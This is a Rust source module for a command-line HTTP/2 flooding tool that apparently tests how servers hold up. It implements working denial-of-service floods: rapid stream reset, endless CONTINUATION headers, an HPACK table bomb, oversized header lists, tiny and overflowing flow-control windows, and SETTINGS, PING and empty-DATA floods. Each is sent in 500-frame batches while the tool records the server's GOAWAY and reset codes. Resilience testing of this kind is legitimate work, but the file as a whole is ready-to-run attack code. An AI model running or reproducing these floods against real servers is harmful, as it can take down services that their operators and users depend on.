//! HTTP/2 that is legal frame by frame, and abuse as a whole; what it costs is the server's matter.

use std::time::Duration;

use anyhow::{Context, Result};
use clap::{Args, ValueEnum};
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

use super::Tunnel;

pub(super) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub(super) const DATA: u8 = 0;
pub(super) const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
pub(super) const SETTINGS: u8 = 4;
pub(super) const PING: u8 = 6;
pub(super) const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
pub(super) const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
/// Frames written at a time.
const BATCH: u64 = 500;

/// What is sent without end.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Abuse {
    /// Requests, each reset at once.
    RapidReset,
    /// A header block that never ends.
    Continuation,
    Settings,
    Ping,
    /// Pings whose answers nobody reads.
    UnreadPing,
    /// Data frames without data.
    EmptyData,
    /// A header of the dynamic table, referred to thousands of times.
    HpackBomb,
    /// A header list longer than admitted.
    OversizedHeaders,
    /// A window opened a byte at a time.
    TinyWindows,
    /// A window opened beyond what a window can be.
    WindowOverflow,
}

/// Who floods whom.
#[derive(Debug, Args)]
pub struct Flood {
    #[command(flatten)]
    tunnel: Tunnel,
    #[arg(long)]
    abuse: Abuse,
    #[arg(long)]
    frames: u64,
    /// How long at most.
    #[arg(long)]
    seconds: u64,
}

/// What it came to.
#[derive(Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Outcome {
    /// Frames sent.
    pub frames: u64,
    /// Whether the server has closed the connection.
    pub closed: bool,
    /// The error code of its GOAWAY.
    pub goaway: Option<u32>,
    /// The error code of the last stream it has reset.
    pub reset: Option<u32>,
    /// Bytes it has sent.
    pub answered: u64,
}

/// Floods until the server closes, or the time is over.
pub async fn flood(flood: &Flood) -> Result<Outcome> {
    let stream = flood.tunnel.connect().await?;
    let (mut reader, mut writer) = tokio::io::split(stream);
    let mut frames = 0;
    let mut outcome = Outcome::default();
    let both = async {
        let sending = async {
            // An error is the server's end of it, of which it may have said more.
            let _ = send(flood, &mut writer, &mut frames).await;
            std::future::pending().await
        };
        let reading = async {
            if flood.abuse == Abuse::UnreadPing {
                std::future::pending().await
            }
            let _ = read(&mut reader, &mut outcome).await;
        };
        tokio::select! {
            () = sending => {}
            () = reading => {}
        }
    };
    let time = Duration::from_secs(flood.seconds);
    let closed = tokio::time::timeout(time, both).await.is_ok();
    Ok(Outcome {
        frames,
        closed,
        ..outcome
    })
}

async fn send(
    flood: &Flood,
    writer: &mut WriteHalf<TlsStream<TcpStream>>,
    sent: &mut u64,
) -> Result<()> {
    let request = request(&flood.tunnel.authority);
    let mut start = PREFACE.to_vec();
    start.extend(frame(SETTINGS, 0, 0, &[]));
    start.extend(match flood.abuse {
        Abuse::Continuation => frame(HEADERS, 0, 1, &request),
        Abuse::EmptyData | Abuse::TinyWindows => frame(HEADERS, END_HEADERS, 1, &request),
        _ => Vec::new(),
    });
    writer.write_all(&start).await?;
    let mut stream = 1;
    while *sent < flood.frames {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            batch.extend(next(flood.abuse, &request, &mut stream));
        }
        writer.write_all(&batch).await?;
        writer.flush().await?;
        *sent += BATCH;
    }
    Ok(())
}

/// What is repeated.
fn next(abuse: Abuse, request: &[u8], stream: &mut u32) -> Vec<u8> {
    let mut open = |block: &[u8]| {
        let id = *stream;
        *stream += 2;
        (id, frame(HEADERS, END_HEADERS, id, block))
    };
    // A literal header without indexing: `x-a: a`.
    let header = b"\x00\x03x-a\x01a";
    match abuse {
        Abuse::RapidReset => {
            let (id, mut frames) = open(request);
            frames.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
            frames
        }
        Abuse::Continuation => frame(CONTINUATION, 0, 1, &header.repeat(100)),
        Abuse::Settings => frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
        Abuse::Ping | Abuse::UnreadPing => frame(PING, 0, 0, b"attacker"),
        Abuse::EmptyData => frame(DATA, 0, 1, &[]),
        Abuse::HpackBomb => {
            // Literal with incremental indexing, 4000 bytes long, then the table's newest entry.
            let mut block = request.to_vec();
            block.extend(b"\x40\x01x\x7f\xa1\x1e");
            block.extend([b'a'; 4000]);
            block.extend([0xBE; 8000]);
            open(&block).1
        }
        Abuse::OversizedHeaders => open(&[request, &header.repeat(2300)].concat()).1,
        Abuse::TinyWindows => frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes()),
        Abuse::WindowOverflow => frame(WINDOW_UPDATE, 0, 0, &0x7FFF_FFFF_u32.to_be_bytes()),
    }
}

pub(super) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// CONNECT, literally: `:method` and `:authority` by the static table's names.
pub(super) fn request(authority: &str) -> Vec<u8> {
    let mut block = b"\x02\x07CONNECT\x01".to_vec();
    block.push(authority.len() as u8);
    block.extend(authority.bytes());
    block
}

/// Everything the server says until it closes.
async fn read(reader: &mut ReadHalf<TlsStream<TcpStream>>, outcome: &mut Outcome) -> Result<()> {
    loop {
        let mut header = [0; 9];
        reader.read_exact(&mut header).await?;
        let length = u32::from_be_bytes([0, header[0], header[1], header[2]]) as usize;
        let mut payload = vec![0; length];
        reader.read_exact(&mut payload).await?;
        outcome.answered += 9 + length as u64;
        let code = |at: usize| -> Result<u32> {
            let bytes = payload.get(at..at + 4).context("short")?;
            Ok(u32::from_be_bytes(bytes.try_into()?))
        };
        match header[3] {
            GOAWAY => outcome.goaway = Some(code(4)?),
            RST_STREAM => outcome.reset = Some(code(0)?),
            _ => {}
        }
    }
}
